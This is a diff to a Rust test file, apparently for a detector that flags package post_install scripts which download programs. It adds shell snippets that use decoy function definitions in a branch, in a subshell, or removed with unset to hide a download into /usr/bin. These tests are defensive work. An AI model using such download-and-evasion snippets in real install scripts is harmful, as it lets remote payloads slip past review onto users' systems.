@@ -118,6 +118,10 @@ fn the_network_program_itself_or_a_function_that_downloads_is_still_caught() {
         "https() { :; }\npost_install() {\n  /usr/bin/https --download https://example.org/p -o /usr/bin/p\n}\n",
         // Called before it is defined: the program runs.
         "post_install() {\n  https --download https://example.org/p -o /usr/bin/p\n  https() { :; }\n}\n",
+        // A decoy defined only in a branch, in a subshell, or unset again: the program may run.
+        "if [ -e /nonexistent ]; then\n  https() { :; }\nfi\npost_install() {\n  https --download https://example.org/p -o /usr/bin/p\n}\n",
+        "( https() { :; } )\npost_install() {\n  https --download https://example.org/p -o /usr/bin/p\n}\n",
+        "https() { :; }\nunset -f https\npost_install() {\n  https --download https://example.org/p -o /usr/bin/p\n}\n",
         // The function's own body downloads: judged where it is called.
         "fetch_it() {\n  curl -fsSL https://example.org/payload -o /usr/bin/payload\n}\npost_install() {\n  fetch_it\n}\n",
         "curl() {\n  command curl \"$@\"\n}\npost_install() {\n  curl -fsSL https://example.org/payload -o /usr/bin/payload\n}\n",
